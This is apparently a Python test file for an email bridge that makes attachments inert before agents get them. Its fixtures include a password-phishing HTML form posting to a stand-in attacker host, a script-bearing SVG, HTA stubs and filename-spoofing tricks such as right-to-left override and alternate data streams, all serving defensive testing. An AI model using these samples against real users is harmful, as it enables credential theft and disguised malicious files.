"""Files go to agents as data: whatever a stranger called them and however they begin, no program shows or runs them."""

from __future__ import annotations

import re
from hashlib import sha256

import pytest

from mailbridge.delivery.render.inert import OPAQUE, inert
from mailbridge.delivery.render.mime import file_part
from mailbridge.message.model import Attachment

PAGE = b"<html><form action=https://attacker.test>Password: <input name=p></form></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"


def a_file(name: str, kind: str, content: bytes, **different: str) -> Attachment:
    return Attachment(
        part="2", name=name, content_type=kind, size=len(content), sha256=sha256(content).hexdigest(), content=content, **different
    )


# name, type, content, name under which an agent gets it
ACTIVE = [
    ("page.html", "text/html", PAGE, "page.html.txt"),
    ("page.HTM", "text/plain", PAGE, "page.HTM.txt"),
    ("safe.txt", "text/html", PAGE, "safe.txt"),
    ("safe.txt", "text/html", b"no tag at all", "safe.txt"),
    ("safe.txt", "text/plain", PAGE, "safe.txt"),
    ("drawing.svg", "image/svg+xml", SVG, "drawing.svg.txt"),
    ("drawing.png", "image/png", SVG, "drawing.png.txt"),
    ("drawing.png", "image/svg+xml", b"\n\n<!-- made by hand -->" + SVG, "drawing.png.txt"),
    ("page.xhtml", "application/xhtml+xml", PAGE, "page.xhtml.txt"),
    ("feed", "application/atom+xml", b"<feed/>", "feed.txt"),
    ("data.xml", "application/xml", b"<a/>", "data.xml.txt"),
    ("run.hta", "application/hta", b"<script language=vbscript>", "run.hta.txt"),
    ("run.hta", "application/octet-stream", b"MsgBox 1", "run.hta.txt"),
    ("saved.mht", "multipart/related", b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "saved.mht.txt"),
    ("saved.doc", "application/msword", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x", "saved.doc.txt"),
    ("letter.doc", "application/msword", b'<html xmlns:o="urn:schemas-microsoft-com:office:office">', "letter.doc.txt"),
    ("page.html.", "text/plain", b"hello", "page.html.txt"),
    ("page.html::$DATA", "text/plain", b"hello", "page.html__$DATA.txt"),
    ("page.ht\u200bml", "text/plain", b"hello", "page.html.txt"),
    ("gpj.\u202elmth.html", "image/jpeg", b"hello", "gpj.lmth.html.txt"),
    ("page", "application/octet-stream", "\ufeff<HTML>".encode("utf-16-le"), "page.txt"),
    ("page", "application/octet-stream", b"\xef\xbb\xbf  <!DOCTYPE html>", "page.txt"),
    ("", "text/html", PAGE, "file.txt"),
    ("script.js", "text/javascript", b"alert(1)", "script.js.txt"),
    ("setup.exe", "application/octet-stream", b"MZ\x90\0", "setup.exe.bin"),
    ("shortcut.lnk", "application/octet-stream", b"L\0\0\0", "shortcut.lnk.bin"),
    ("link.url", "text/plain", b"[InternetShortcut]", "link.url.txt"),
    ("archive.jar", "application/java-archive", b"PK\3\4\0", "archive.jar.bin"),
]
QUIET = [
    ("panel.png", "image/png", PNG, "image/png"),
    ("photo.jpg", "image/jpeg", b"\xff\xd8\xff\xe0", "image/jpeg"),
    ("manual.pdf", "application/pdf", b"%PDF-1.7", "application/pdf"),
    ("error.log", "text/plain", b"09:00 it hums", "text/plain"),
    ("table.csv", "text/csv", b"a,b", "text/csv"),
    ("letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", b"PK\3\4", OPAQUE),
    ("visit.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST", OPAQUE),
    ("passed-on.eml", "message/rfc822", b"From: a@b.test\r\nContent-Type: multipart/related; boundary=x", OPAQUE),
    ("noise.mp3", "audio/mpeg", b"ID3", OPAQUE),
    ("not.pdf", "application/pdf", b"something else", OPAQUE),
]


@pytest.mark.parametrize(("name", "kind", "content", "sent_as"), ACTIVE)
def test_what_a_program_would_show_or_run_goes_as_data_under_a_harmless_name(name: str, kind: str, content: bytes, sent_as: str) -> None:
    sent = inert(a_file(name, kind, content, disposition="inline", content_id="x@y"))

    assert (sent.name, sent.content_type, sent.disposition, sent.content_id) == (sent_as, OPAQUE, "attachment", "")
    assert sent.content == content
    head = dict(file_part(sent).fields)
    assert head["Content-Type"] == OPAQUE
    assert head["Content-Disposition"].startswith("attachment")
    assert re.search(r"\.(?:txt|bin)\"?$", head["Content-Disposition"])


@pytest.mark.parametrize(("name", "kind", "content", "sent_kind"), QUIET)
def test_other_files_keep_their_names_and_the_types_that_their_contents_prove(name: str, kind: str, content: bytes, sent_kind: str) -> None:
    sent = inert(a_file(name, kind, content))
    assert (sent.name, sent.content_type, sent.content) == (name, sent_kind, content)


def test_a_picture_in_the_text_stays_in_the_text() -> None:
    assert inert(a_file("panel.png", "image/png", PNG, disposition="inline", content_id="x@y")).content_id == "x@y"
